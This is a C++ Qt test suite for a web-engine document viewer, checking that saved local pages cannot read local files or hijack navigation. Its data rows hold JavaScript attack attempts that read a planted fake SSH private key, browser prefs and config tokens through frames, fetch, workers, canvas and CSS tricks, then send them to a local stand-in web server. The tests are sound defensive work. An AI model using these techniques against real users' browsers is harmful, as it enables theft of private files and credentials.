#include "Unit1/TForm1.h"
#include "Unit1/Unit1_state.h"
#include "platform/files/remove_tree.h"
#include "platform/ui/french_translations.h"
#include "platform/viewer/web_engine_browser.h"
#include "support/scripted_dialogs.h"
#include "support/web_test_main.h"

#include <QAction>
#include <QBuffer>
#include <QDir>
#include <QDropEvent>
#include <QEventLoop>
#include <QFile>
#include <QImage>
#include <QMimeData>
#include <QPointer>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTimer>
#include <QWebEngineFindTextResult>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QStandardPaths>

#include "platform/viewer/find_dialog.h"

#include <csignal>
#include <cups/cups.h>
#include <memory>
#include <sys/stat.h>
#include <unistd.h>

namespace {

constexpr int loadTimeout = 30000;

std::string bytes(const QString& path)
{
    return QFile::encodeName(path).toStdString();
}

void write(const QString& path, const QByteArray& content)
{
    QDir().mkpath(QFileInfo(path).path());
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(content);
}

// A 1x1 PNG picture.
QByteArray pngPicture()
{
    return QByteArray::fromBase64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8"
                                  "BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
}

// A picture of one colour, whose pixels a script would report if it could read them.
QByteArray pngOfColour(const QColor& colour)
{
    QImage image(4, 4, QImage::Format_RGB32);
    image.fill(colour);
    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return png;
}

// What another program of this machine gets at `url`, asking as the engine asks for a script.
QByteArray readAsAnotherProgram(const QUrl& url)
{
    QTcpSocket socket;
    socket.connectToHost(url.host(), static_cast<quint16>(url.port()));
    if (!socket.waitForConnected(2000))
        return {};
    socket.write("GET " + url.path(QUrl::FullyEncoded).toUtf8() +
                 " HTTP/1.1\r\nHost: " + url.authority().toUtf8() +
                 "\r\nSec-Fetch-Dest: script\r\nConnection: close\r\n\r\n");
    QByteArray answer;
    while (socket.waitForReadyRead(2000))
        answer += socket.readAll();
    return answer;
}

// A web server on 127.0.0.1 standing for the web: it serves a picture at /online.png, answers
// everything else with an empty page, and keeps every request it receives, whole.
class WebServer : public QObject {
public:
    bool listen()
    {
        connect(&server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = server.nextPendingConnection()) {
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] { serve(socket); });
                connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
        return server.listen(QHostAddress::LocalHost);
    }
    int port() const { return server.serverPort(); }
    QStringList requests() const { return received; }
    // Pages served at given paths, in place of the empty one, with header lines of their own (a
    // Location makes the answer a redirect).
    QHash<QByteArray, QByteArray> pages;
    QHash<QByteArray, QByteArray> headers;

private:
    void serve(QTcpSocket* socket)
    {
        QByteArray& head = heads[socket];
        head += socket->readAll();
        if (!head.contains("\r\n\r\n"))
            return;
        received << QString::fromLatin1(QByteArray::fromPercentEncoding(head));
        const QByteArray path = head.mid(4, head.indexOf(' ', 4) - 4);
        const QByteArray body =
            head.startsWith("GET /online.png") ? pngOfColour(Qt::green) : pages.value(path);
        const QByteArray type = head.startsWith("GET /online.png") ? "image/png" : "text/html";
        const bool moved = headers.value(path).startsWith("Location:");
        socket->write((moved ? "HTTP/1.1 302 Found\r\n" : "HTTP/1.1 200 OK\r\n") +
                      headers.value(path) + "Content-Type: " + type +
                      "\r\nConnection: close\r\nContent-Length: " +
                      QByteArray::number(body.size()) + "\r\n\r\n" + body);
        socket->disconnectFromHost();
        heads.remove(socket);
    }

    QTcpServer server;
    QStringList received;
    QHash<QTcpSocket*, QByteArray> heads;
};

// The real window over the real viewer, the program in a temporary folder.
struct RealWindow {
    QTemporaryDir dir;
    ScriptedDialogs dialogs;
    WebEngineBrowser* viewer = nullptr;
    std::unique_ptr<TForm1> form;
    std::string completed;               // the last document complete
    std::vector<std::string> windowKeys; // the window's own keys, as they reached it

    // The window goes first: it writes its settings into the folder, which then goes whole, names
    // that are not UTF-8 included.
    ~RealWindow()
    {
        form.reset();
        removeTree(bytes(dir.path()));
    }

    QString path(const QString& name) const { return dir.path() + "/" + name; }

    TForm1& create(std::vector<std::string> arguments = {})
    {
        TForm1Services services;
        services.makeViewer = [this](QWidget* parent) {
            viewer = new WebEngineBrowser(parent);
            return viewer;
        };
        services.dialogs = &dialogs;
        services.fileOperation = [](const FileOperationRequest&) { return 1; };
        services.executablePath = bytes(path("velmo"));
        services.arguments = std::move(arguments);
        services.screen = {1024, 768};
        services.neighbourPage = [this](const std::string& place, PageStep step) {
            windowKeys.push_back(step == PageStep::Next ? "next" : "previous");
            return neighbourPage(place, step);
        };
        services.undoFileCommand = [this](QWidget*) {
            windowKeys.push_back("undo");
            return std::optional<std::string>();
        };
        form = std::make_unique<TForm1>(std::move(services));
        QObject::connect(viewer, &WebBrowser::DocumentComplete,
                         [this](const std::string& address) { completed = address; });
        form->show();
        return *form;
    }

    // The title, once the page it names has completed: the title alone names a page as soon as
    // it is opened.
    QString shownTitle() const
    {
        const bool done = completed == Fichier_Courant ||
                          completed.substr(0, completed.find('#')) == Fichier_Courant;
        return done ? form->windowTitle() : QString();
    }

    // Clicks a link as a user does, so that the engine counts it as the user's navigation.
    void clickLink(const QString& id, Qt::MouseButton button = Qt::LeftButton)
    {
        const QString centre = QStringLiteral("(() => { const e = document.getElementById('%1');"
                                              " if (!e) return null; const r ="
                                              " e.getBoundingClientRect(); return [r.x + r.width"
                                              " / 2, r.y + r.height / 2]; })()")
                                   .arg(id);
        QVariantList box;
        QTRY_VERIFY_WITH_TIMEOUT((box = runScript(centre).toList()).size() == 2, loadTimeout);
        QWidget* surface = viewer->view()->focusProxy();
        QVERIFY(surface);
        // The pointer comes over the link first, as a hand moves before it clicks. The engine names
        // the link hovered, or the page says it is (a web page's link to a local file goes
        // unnamed); over a frame, the frame's own link counts.
        const QPoint at(box[0].toInt(), box[1].toInt());
        QSignalSpy hovered(viewer->view()->page(), &QWebEnginePage::linkHovered);
        const QString over = QStringLiteral("(e => e.matches(':hover') ? 'over' : e.localName)"
                                            "(document.getElementById('%1'))")
                                 .arg(id);
        int moves = 0;
        const auto overTheLink = [&] {
            // Qt drops a move to where the pointer already is.
            QTest::mouseMove(surface, at + QPoint(1, 1));
            QTest::mouseMove(surface, at);
            const QString state = runScript(over).toString();
            return state == "over" ||
                   (!hovered.isEmpty() && !hovered.last().first().toUrl().isEmpty()) ||
                   (state == "iframe" && ++moves > 5);
        };
        QTRY_VERIFY_WITH_TIMEOUT(overTheLink(), loadTimeout);
        QTest::mouseClick(surface, button, Qt::NoModifier, at);
    }

    // Whether the page shows the text, as the find command sees it.
    bool shows(const QString& text)
    {
        auto matches = std::make_shared<int>(-1);
        viewer->view()->page()->findText(text, {}, [matches](const QWebEngineFindTextResult& r) {
            *matches = r.numberOfMatches();
        });
        if (!QTest::qWaitFor([&] { return *matches >= 0; }, loadTimeout))
            return false;
        viewer->view()->page()->findText(QString());
        return *matches > 0;
    }

    QVariant runScript(const QString& script)
    {
        // The engine may answer after the wait ended, or only when the page goes: the answer then
        // lands in state that outlives this call.
        struct Answer {
            QVariant value;
            QPointer<QEventLoop> loop;
        };
        auto answer = std::make_shared<Answer>();
        QEventLoop loop;
        answer->loop = &loop;
        viewer->view()->page()->runJavaScript(script, [answer](const QVariant& value) {
            answer->value = value;
            if (answer->loop)
                answer->loop->quit();
        });
        // A script sent while a page is replaced may never answer.
        QTimer::singleShot(2000, &loop, &QEventLoop::quit);
        loop.exec();
        return answer->value;
    }
};

} // namespace

class TestWebViewer : public QObject {
    Q_OBJECT
private slots:
    void initTestCase() { installFrenchTranslations(*QCoreApplication::instance()); }

    void pageOnTheCommandLineAndFollowedLinks()
    {
        RealWindow w;
        write(w.path("a.htm"), "<html><body><a id=l href=\"b.htm\">b</a></body></html>");
        write(w.path("b.htm"),
              "<html><body><p id=part>B</p><a id=l href=\"a.htm#top\">a</a></body></html>");
        TForm1& form = w.create({bytes(w.path("a.htm"))});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        QCOMPARE(Fichier_Courant, bytes(w.path("a.htm")));
        QVERIFY(!form.N1->isEnabled());

        w.clickLink("l");
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("b.htm"), loadTimeout);
        QCOMPARE(Fichier_Courant, bytes(w.path("b.htm")));
        QTRY_VERIFY_WITH_TIMEOUT(form.N1->isEnabled(), loadTimeout);
        QVERIFY(!form.N2->isEnabled());
        QTRY_VERIFY_WITH_TIMEOUT(!form.X1->isEnabled(), loadTimeout);

        form.N1->trigger();
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("a.htm"), loadTimeout);
        QTRY_VERIFY_WITH_TIMEOUT(form.N2->isEnabled(), loadTimeout);
        form.N2->trigger();
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), w.path("b.htm"), loadTimeout);

        // Showing the page again shows the page followed to, not the first one, afresh.
        w.runScript("window.before = 1");
        form.Actualiser1->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(
            w.runScript("window.before === undefined && document.getElementById('part') !== null")
                .toBool(),
            loadTimeout);

        // A link to another page's anchor makes that page current.
        w.clickLink("l");
        QTRY_COMPARE_WITH_TIMEOUT(Fichier_Courant, bytes(w.path("a.htm")), loadTimeout);
    }

    // Each row is one attempt of a saved page to read a local file and send it to the web: the
    // page reports what it read (or "refused") to a web server of the test's, on load and through
    // a full-window link clicked once. The server must receive nothing secret, while the page
    // still shows its own picture and a picture from the web.
    void aSavedPageShowsButNeverReads_data()
    {
        QTest::addColumn<bool>("atTheRoot");  // the page saved at "/" rather than in the home
        QTest::addColumn<QString>("markup");  // "HOME/" stands for the home, relative to the page
        QTest::addColumn<QString>("attempt"); // a function whose value is what was read
        const auto row = [](const char* name, bool atTheRoot, const char* markup,
                            const char* attempt) {
            QTest::newRow(name) << atTheRoot << QString(markup) << QString(attempt);
        };
        row("frame's document", false, "<iframe id=f src='HOME/.ssh/id_rsa'></iframe>",
            "() => f.contentDocument.body.innerText");
        row("frame's window", false, "<iframe src='HOME/.ssh/id_rsa'></iframe>",
            "() => frames[0].document.body.innerText");
        row("object", false, "<object id=o data='HOME/.ssh/id_rsa' type='text/plain'></object>",
            "() => o.contentDocument.body.innerText");
        row("picture of the folder tree on a canvas", false,
            "<img id=p src='HOME/Pictures/photo.png'>", "() => pixelsOf(p)");
        row("the page's own picture on a canvas", false, "", "() => pixelsOf(own)");
        row("picture asked for with CORS", false,
            "<img id=p crossorigin=anonymous src='HOME/Pictures/photo.png'>", "() => pixelsOf(p)");
        row("style sheet rules", false, "<link rel=stylesheet href='HOME/.config/secret.css'>",
            "() => [...document.styleSheets].map(s => [...s.cssRules].map(r => r.cssText))");
        row("error text of a script", false, "<script src='HOME/.ssh/id_rsa'></script>",
            "() => errors.join() || 'no error'");
        row("error text of a script that runs", false,
            "<script src='HOME/page_files/secret.js'></script>",
            "() => errors.join() || 'no error'");
        row("fetch", false, "", "() => fetch('HOME/.ssh/id_rsa').then(r => r.text())");
        row("fetch of a file address", false, "",
            "() => fetch('file://ABSOLUTE/.ssh/id_rsa').then(r => r.text())");
        row("request", false, "",
            "() => { const x = new XMLHttpRequest(); x.open('GET', 'HOME/.ssh/id_rsa', false);"
            " x.send(); return x.responseText; }");
        row("event source", false, "",
            "() => new Promise((ok, no) => { const s = new EventSource('HOME/.ssh/id_rsa');"
            " s.onmessage = m => ok(m.data); s.onerror = no; })");
        row("worker", false, "",
            "() => new Promise((ok, no) => { const w = new Worker('HOME/reader.js');"
            " w.onmessage = m => ok(m.data); w.onerror = no; })");
        row("the file server's address taken from a style", false,
            "<link rel=stylesheet href='HOME/page_files/leak.css'><div id=d></div>",
            "() => fetch(getComputedStyle(d).backgroundImage.slice(5, -2)"
            ".replace('Pictures/photo.png', '.ssh/id_rsa')).then(r => r.text())");
        row("a framed page reading its neighbour", false,
            "<iframe src='HOME/page_files/framed.htm'></iframe>",
            "() => new Promise(ok => addEventListener('message', m => ok(m.data)))");
        row("frame, page at the root", true, "<iframe id=f src='HOME/.ssh/id_rsa'></iframe>",
            "() => f.contentDocument.body.innerText");
        row("picture, page at the root", true, "<img id=p src='HOME/Pictures/photo.png'>",
            "() => pixelsOf(p)");
        // Workers of other kinds, which reach the engine's loaders by other ways than the page.
        row("shared worker reading its page's address", false, "",
            "() => inWorker('shared', readSync(here('HOME/.ssh/id_rsa')))");
        row("shared worker fetch", false, "",
            "() => inWorker('shared', `return fetch('${here('HOME/.ssh/id_rsa')}')"
            ".then(r => r.text())`)");
        row("shared worker, a host never issued", false, "",
            "() => inWorker('shared', readSync(here('HOME/.ssh/id_rsa')"
            ".replace(location.host, 'd0123456789abcdef0123456789abcdef')))");
        row("shared worker through a frame's host", false,
            "<iframe src='HOME/page_files/host.htm'></iframe>",
            "() => framed.then(h => inWorker('shared', readSync(here('HOME/.ssh/id_rsa')"
            ".replace(location.host, new URL(h).host))))");
        row("shared worker of a frame", false, "<iframe src='HOME/page_files/worker.htm'></iframe>",
            "() => framed");
        row("shared worker reading a file address", false, "",
            "() => inWorker('shared', readSync('file://ABSOLUTE/.ssh/id_rsa'))");
        row("shared worker running a text file of the file server", false,
            "<link rel=stylesheet href='HOME/page_files/leak.css'><div id=d></div>",
            "() => inWorker('shared', `try { importScripts('${getComputedStyle(d).backgroundImage"
            ".slice(5, -2).replace('Pictures/photo.png', '.ssh/id_rsa')}') } catch (e) {"
            " return String(e) } return 'ran'`)");
        row("dedicated worker of a blob", false, "",
            "() => inWorker('dedicated', readSync(here('HOME/.ssh/id_rsa')))");
        row("worker started by a worker", false, "",
            "() => inWorker('dedicated', `return new Promise((ok, no) => { const w = new Worker("
            "URL.createObjectURL(new Blob([${JSON.stringify('try { postMessage((() => { ' +"
            " readSync(here('HOME/.ssh/id_rsa')) + ' })()) } catch (e) { postMessage(\"refused: \"'"
            " + ' + e) }')}]))); w.onmessage = m => ok(m.data); w.onerror = () => no('error') "
            "})`)");
        row("paint worklet", false, "",
            "() => CSS.paintWorklet.addModule(here('HOME/reader.js')).then(() => 'LOADED')");
        row("prefetch, then a read of the cache", false,
            "<link rel=prefetch href='HOME/page_files/secret.js'>",
            "() => new Promise(ok => setTimeout(ok, 300)).then(() => "
            "fetch('HOME/page_files/secret.js',"
            " {cache: 'only-if-cached', mode: 'same-origin'})).then(r => r.text())");
        row("service worker", false, "",
            "() => navigator.serviceWorker.register('HOME/reader.js').then(() => 'LOADED')");
        // Files of the folder tree used as what they are not.
        row("text file as a style sheet", false,
            "<link rel=stylesheet href='HOME/page_files/notes.txt'><p id=probe>p</p>",
            "() => getComputedStyle(probe).color.replace(/ /g, '')");
        row("text file as a script", false, "<script src='HOME/page_files/settings.env'></script>",
            "() => window.leaked");
        // Another spelling of the file server's address, once the page knows it.
        row("the file server as localhost.", false,
            "<link rel=stylesheet href='HOME/page_files/leak.css'><div id=d></div>",
            "() => new Promise(ok => { const i = new Image(); i.onload = () => ok('LOADED');"
            " i.onerror = () => ok('refused'); i.src = getComputedStyle(d).backgroundImage"
            ".slice(5, -2).replace('127.0.0.1', 'localhost.') })");
        row("the file server's address handed to another program", false,
            "<link rel=stylesheet href='HOME/page_files/leak.css'><div id=d></div>",
            "() => getComputedStyle(d).backgroundImage.slice(5, -2)"
            ".replace('Pictures/photo.png', 'page_files/secret.js')");
        row("error text of a script a worker imports", false, "",
            "() => inWorker('dedicated', `try { "
            "importScripts('${here('HOME/page_files/secret.js')}')"
            " } catch (e) { return String(e) } return 'ran'`)");
        row("a ping on the link the user clicks", false, "",
            "() => { all.ping = new URL('/ping', all.href).href; return 'set' }");
        row("a local style sheet asking the web", false,
            "<link rel=stylesheet href='HOME/page_files/web.css'>",
            "() => new Promise(ok => setTimeout(() => ok('done'), 500))");
        // Files of the folder tree used as what they are, their effects read.
        row("what a script of the folder tree defines", false,
            "<script>function user_pref(name, value) { window.prefs = value }</script>"
            "<script src='HOME/.mozilla/prefs.js'></script>",
            "() => window.prefs");
        row("what a style sheet of the folder tree gives", false,
            "<link rel=stylesheet href='HOME/.config/theme.css'>",
            "() => getComputedStyle(document.documentElement).getPropertyValue('--token')");
    }
    void aSavedPageShowsButNeverReads()
    {
        QFETCH(bool, atTheRoot);
        QFETCH(QString, markup);
        QFETCH(QString, attempt);
        RealWindow w;
        WebServer web;
        QVERIFY(web.listen());
        const QString secret = "VelmoSecret4242";
        write(w.path(".ssh/id_rsa"), secret.toUtf8());
        write(w.path(".config/secret.css"), "." + secret.toUtf8() + " { color: red }");
        write(w.path("Pictures/photo.png"), pngOfColour(QColor(18, 52, 86)));
        write(w.path("reader.js"), "fetch('.ssh/id_rsa').then(r => r.text())"
                                   ".then(t => postMessage(t), () => postMessage('refused'));");
        write(w.path("page_files/framed.htm"),
              "<iframe id=n src='../.ssh/id_rsa'></iframe><script>onload = () => { let v;"
              " try { v = n.contentDocument.body.innerText } catch (e) { v = 'refused' }"
              " parent.postMessage(String(v), '*') }</script>");
        write(w.path("page_files/host.htm"),
              "<script>parent.postMessage(location.href, '*')</script>");
        write(
            w.path("page_files/worker.htm"),
            "<script>const code = `onconnect = e => { let v; try { const x = new XMLHttpRequest();"
            " x.open('GET', '${new URL('../.ssh/id_rsa', location.href)}', false); x.send();"
            " v = x.responseText } catch (err) { v = 'refused: ' + err }"
            " e.ports[0].postMessage(String(v)) }`; const w = new SharedWorker(URL"
            ".createObjectURL(new Blob([code], {type: 'text/javascript'})));"
            " w.port.onmessage = m => parent.postMessage(m.data, '*');</script>");
        // A local style sheet names its pictures by the file server's address.
        write(w.path("page_files/leak.css"), "#d { background-image: url(../Pictures/photo.png) }");
        write(w.path("page_files/notes.txt"), "#probe { color: rgb(18, 52, 86) }");
        write(w.path("page_files/secret.js"), secret.toUtf8());
        write(w.path(".mozilla/prefs.js"),
              "user_pref('sync.username', '" + secret.toUtf8() + "');");
        write(w.path(".config/theme.css"), ":root { --token: '" + secret.toUtf8() + "' }");
        write(w.path("page_files/settings.env"), "window.leaked = '" + secret.toUtf8() + "'");

        // The page in the home, or at the root naming the home by its path.
        QString page = w.path("page.htm");
        QString home;
        if (atTheRoot) {
            page =
                QStringLiteral("/velmo-isolation-%1.htm").arg(QCoreApplication::applicationPid());
            if (!QFileInfo(QStringLiteral("/")).isWritable() || ::access("/", W_OK) != 0)
                QSKIP(
                    "a page at the root of the file system needs an account that may write there");
            home = w.dir.path().mid(1) + "/";
        }
        const QString online = QStringLiteral("http://127.0.0.1:%1").arg(web.port());
        write(w.path("page_files/web.css"),
              QStringLiteral("body { background: url(%1/fromcss.png) }").arg(online).toUtf8());
        write(page,
              QStringLiteral(
                  "<html><body><script>window.errors = []; onerror = m => { errors.push(m) };"
                  "window.framed = new Promise(ok => addEventListener('message', m => ok(m.data)));"
                  "function here(relative) { return new URL(relative, location.href).href }"
                  "function readSync(url) { return `const x = new XMLHttpRequest();"
                  " x.open('GET', '${url}', false); x.send(); return x.responseText` }"
                  "function inWorker(kind, body) { return new Promise((ok, no) => {"
                  " const code = `const run = async () => { ${body} };` + (kind == 'shared'"
                  " ? 'onconnect = e => run().then(v => e.ports[0].postMessage(String(v)),"
                  " x => e.ports[0].postMessage(\"refused: \" + x))'"
                  " : 'run().then(v => postMessage(String(v)), x => postMessage(\"refused: \" + "
                  "x))');"
                  " const url = URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));"
                  " const w = kind == 'shared' ? new SharedWorker(url) : new Worker(url);"
                  " (kind == 'shared' ? w.port : w).onmessage = m => ok(m.data);"
                  " w.onerror = () => no('error') }) }"
                  "function pixelsOf(img) { const c = document.createElement('canvas');"
                  " const g = c.getContext('2d'); g.drawImage(img, 0, 0);"
                  " return g.getImageData(0, 0, 1, 1).data.join(); }"
                  "function report(value) { window.result = 'read: ' + value;"
                  " new Image().src = '%2/load?' + encodeURIComponent(result);"
                  " all.href = '%2/click?' + encodeURIComponent(result); }</script>"
                  "<img id=own src='%1page_files/own.png'><img id=web src='%2/online.png'>%3"
                  "<a id=all href='%2/click' style='position:fixed; inset:0; z-index:9'></a>"
                  "<script>onload = () => Promise.resolve().then(%4).then(report,"
                  " e => report('refused: ' + e));</script></body></html>")
                  .arg(home, online, QString(markup).replace("HOME/", home),
                       QString(attempt).replace("HOME/", home).replace("ABSOLUTE", w.dir.path()))
                  .toUtf8());
        write(w.path("page_files/own.png"), pngOfColour(QColor(86, 52, 18)));
        const auto removePage = qScopeGuard([&] {
            if (atTheRoot)
                QFile::remove(page);
        });

        w.create({bytes(page)});
        QTRY_COMPARE_WITH_TIMEOUT(w.shownTitle(), page, loadTimeout);
        QString result;
        QTRY_VERIFY_WITH_TIMEOUT(!(result = w.runScript("window.result").toString()).isEmpty(),
                                 loadTimeout);
        const QStringList secrets = {secret, "18,52,86", "86,52,18", "LOADED"};
        for (const QString& text : secrets)
            QVERIFY2(!result.contains(text), qPrintable(result));
        // An address of the file server that the page learnt is no key for another program.
        const QRegularExpression serverUrl(
            QStringLiteral("http://127\\.0\\.0\\.1:(?!%1\\b)\\S+").arg(web.port()));
        for (auto found = serverUrl.globalMatch(result); found.hasNext();) {
            const QByteArray read = readAsAnotherProgram(QUrl(found.next().captured()));
            QVERIFY2(!read.contains(secret.toUtf8()), read.constData());
        }
        // The page still shows its own picture and one from the web.
        QTRY_VERIFY_WITH_TIMEOUT(w.runScript("own.naturalWidth").toInt() > 0, loadTimeout);
        QTRY_VERIFY_WITH_TIMEOUT(w.runScript("web.naturalWidth").toInt() > 0, loadTimeout);

        // The first click anywhere follows the link that holds what was read.
        QTest::mouseClick(w.viewer->view()->focusProxy(), Qt::LeftButton, Qt::NoModifier,
                          w.viewer->view()->rect().center());
        QTRY_VERIFY_WITH_TIMEOUT(web.requests().join('\n').contains("GET /click"), loadTimeout);
        const QString received = web.requests().join('\n');
        for (const QString& text : secrets)
            QVERIFY2(!received.contains(text), qPrintable(received));
        // No header sent to the web names a local file, a local document or another local port (a
        // web page naming itself aside).
        const QRegularExpression otherPort(
            QStringLiteral("127\\.0\\.0\\.1:(?!%1\\b)").arg(web.port()));
        for (const QString& request : web.requests())
            for (const QString& header : request.split("\r\n").mid(1))
                QVERIFY2(header.startsWith("Referer: " + online + "/") ||
                             (!header.contains(w.dir.path()) && !header.contains("vpage") &&
                              !header.contains(otherPort)),
                         qPrintable(request));
    }

    // Only the user's own choice makes a file current: what a page does by itself (scripts,
    // refreshes, windows, steps and paths in its history, a link followed from the web, the user's
    // keys and buttons that follow no link) changes neither the current page nor the title, and the
    // page opened stays shown. VICTIM is a local file the page would like the commands to act on;
    // WEB a web server of the test's.
    void onlyTheUserPicksTheCurrentFile_data()
    {
        QTest::addColumn<QString>("markup");
        // What the user does once the page shows; "crash": the page's process dies, as when the
        // page runs out of memory.
        QTest::addColumn<QString>("action");
        QTest::addColumn<QString>("current"); // "page", "other", "web", or "" for none
        const auto row = [](const char* name, const char* markup, const char* action,
                            const char* current) {
            QTest::newRow(name) << QString(markup) << QString(action) << QString(current);
        };
        row("a script on a timer", "<script>setTimeout(() => location = 'VICTIM', 50)</script>", "",
            "page");
        row("a refresh", "<meta http-equiv=refresh content='0; url=VICTIM'>", "", "page");
        row("replace() on the Alt key",
            "<script>onkeydown = e => { if (e.key == 'Alt') location.replace('VICTIM') }</script>",
            "alt", "page");
        row("a script on a click that is not on a link",
            "<script>onclick = () => location = 'VICTIM'</script>", "click", "page");
        row("a path given to the history, then a reload",
            "<script>history.pushState({}, '', 'VICTIMPATH');"
            " setTimeout(() => location.reload(), 50)</script>",
            "", "page");
        row("a script of a web page the user went to", "<a id=l href='WEB/timer'>web</a>", "link",
            "web");
        row("a link of a web page the user follows", "<a id=l href='WEB/link'>web</a>",
            "link, link", "web");
        row("a link to a folder", "<a id=l href='Documents/'>dossier</a>", "link", "");
        row("a link the user clicks", "<a id=l href='other.htm'>autre</a>", "link", "other");
        row("Enter on a link", "<a id=l href='other.htm'>autre</a>", "enter", "other");
        row("a link the page focused, then a click anywhere",
            "<a id=v href='VICTIM' style='position:absolute; top:1000px'>v</a><script>"
            "onload = () => v.focus(); onmousedown = e => e.preventDefault();"
            " onclick = () => setTimeout(() => location = v.href, 300)</script>",
            "click", "page");
        row("a link slid under the pointer after a click",
            "<a id=v href='VICTIM' style='position:fixed; inset:0; display:none'>v</a><script>"
            "onclick = () => { v.style.display = 'block';"
            " setTimeout(() => location = v.href, 300) }</script>",
            "click", "page");
        row("Enter in a field, then the page focuses a link",
            "<input id=f autofocus><a id=v href='VICTIM' style='position:absolute; top:1000px'>"
            "v</a><script>f.onkeydown = e => { if (e.key == 'Enter') { v.focus();"
            " setTimeout(() => location = v.href, 300) } }</script>",
            "enter", "page");
        row("a link whose address changes as it is pressed",
            "<a id=l href='other.htm' onmousedown=\"this.href = 'VICTIM'\">autre</a>", "link",
            "page");
        row("a path given to the history, then the page's process dies",
            "<script>history.replaceState({}, '', new URL('VICTIM').pathname)</script>", "crash",
            "page");
        row("a link of a sandboxed web page, then back and forward",
            "<a id=l href='WEB/sandboxed'>web</a>", "link, link, back, forward", "web");
        row("a download link the user clicks",
            "<a id=l download href='Documents/contrat.odt'>t</a>", "link", "page");
        row("a link of a frame to the whole window",
            "<iframe id=l src='frame.htm' style='position:fixed; inset:0; width:100%; height:100%'>"
            "</iframe>",
            "link", "other");
        row("a link of a web frame that opens a window",
            "<iframe id=l src='WEB/blank' style='position:fixed; inset:0; width:100%; height:100%'>"
            "</iframe>",
            "link", "page");
        row("a link of a web page that opens a window", "<a id=l href='WEB/blank'>web</a>",
            "link, link", "web");
        row("a window a script opens without an opener",
            "<script>onclick = () => open('VICTIM', '_blank', 'noopener')</script>", "click",
            "page");
        row("a blank window the page writes a refresh into",
            "<script>onclick = () => open('').document.write(\"<meta http-equiv=refresh"
            " content='0; url=VICTIM'>\")</script>",
            "click", "page");
        row("a link the page focused as the user typed, then Enter",
            "<input id=f autofocus><a id=v href='VICTIM' style='position:absolute; top:1000px'>"
            "v</a><script>f.oninput = () => v.focus({preventScroll: true})</script>",
            "type, enter", "page");
        row("a link whose address changes as Enter goes down",
            "<a id=l href='other.htm' onkeydown=\"if (event.key == 'Enter') this.href = 'VICTIM'\">"
            "autre</a>",
            "enter", "page");
        row("a right click on a link just after a click",
            "<a id=l href='VICTIM' style='position:absolute; top:100px'>v</a><script>"
            "l.onauxclick = () => location = l.href; l.oncontextmenu = e => e.preventDefault()"
            "</script>",
            "click, right", "page");
        row("a path given to the history, then the user leaves and steps back",
            "<script>history.pushState({}, '', 'VICTIMPATH')</script>"
            "<a id=l href='WEB/plain'>web</a>",
            "link, back", "web");
        row("a step back within the page, which the page turns into a jump to a file further on",
            "<a id=l href='other.htm'>autre</a><script>if (!location.hash)"
            " history.pushState({}, '', '#s'); onpopstate = () => history.go(2)</script>",
            "link, back, back", "page");
        row("a form sent to a new window on a click",
            "<form id=f target=_blank action='VICTIM'></form>"
            "<script>onclick = () => f.submit()</script>",
            "click", "page");
        row("a web address the page goes to, sent back to a local file",
            "<script>setTimeout(() => location = 'WEB/redirect', 50)</script>", "", "page");
        row("a web page going back by itself", "<a id=l href='WEB/back'>web</a>", "link", "web");
        row("a web page the user steps forward to, going back by itself",
            "<a id=l href='WEB/bounce'>web</a>", "link, back, forward", "web");
        row("steps back of the first page, with nothing behind it",
            "<script>history.back(); onload = () => history.go(-1)</script>", "", "page");
        row("a path given to the history of the first page, then the user steps back",
            "<script>history.pushState({}, '', 'VICTIMPATH')</script>", "back", "page");
    }
    void onlyTheUserPicksTheCurrentFile()
    {
        QFETCH(QString, markup);
        QFETCH(QString, action);
        QFETCH(QString, current);
        RealWindow w;
        WebServer web;
        QVERIFY(web.listen());
        const QString online = QStringLiteral("http://127.0.0.1:%1").arg(web.port());
        write(w.path("Documents/contrat.odt"), "contrat");
        const QString victim = QUrl::fromLocalFile(w.path("Documents/contrat.odt")).toString();
        const QString link = "<a id=l href='%1' style='position:fixed; inset:0'>x</a>";
        web.pages["/timer"] =
            QStringLiteral("<script>setTimeout(() => location = 'vpage://x%1', 50)</script>")
                .arg(w.path("Documents/contrat.odt"))
                .toUtf8();
        web.pages["/link"] = link.arg("vpage://x" + w.path("Documents/contrat.odt")).toUtf8();
        // A page whose origin is nobody's (a sandbox), linking to the victim by a page address.
        web.pages["/sandboxed"] = web.pages["/link"];
        web.headers["/sandboxed"] = "Content-Security-Policy: sandbox allow-scripts"
                                    " allow-top-navigation\r\n";
        // A link over the whole page that opens a window.
        web.pages["/blank"] =
            QString::fromUtf8(web.pages["/link"]).replace("<a ", "<a target=_blank ").toUtf8();
        // A web address that sends its visitor on to a local file.
        web.headers["/redirect"] = QStringLiteral("Location: vpage://x%1\r\n")
                                       .arg(w.path("Documents/contrat.odt"))
                                       .toUtf8();
        web.pages["/back"] = "<script>setTimeout(() => history.back(), 500)</script>";
        // Once the user comes back to it, it goes back by itself.
        web.pages["/bounce"] = "<script>onpageshow = () => { if (sessionStorage.seen)"
                               " setTimeout(() => history.back(), 500); sessionStorage.seen = 1 }"
                               "</script>";
        write(w.path("other.htm"), "<html><body>autre</body></html>");
        write(w.path("frame.htm"),
              link.arg("other.htm").replace("<a ", "<a target=_top ").toUtf8());
        write(w.path("page.htm"),
              ("<html><body>" +
               QString(markup)
                   .replace("VICTIMPATH", w.path("Documents/contrat.odt"))
                   .replace("VICTIM", victim)
                   .replace("WEB", online) +
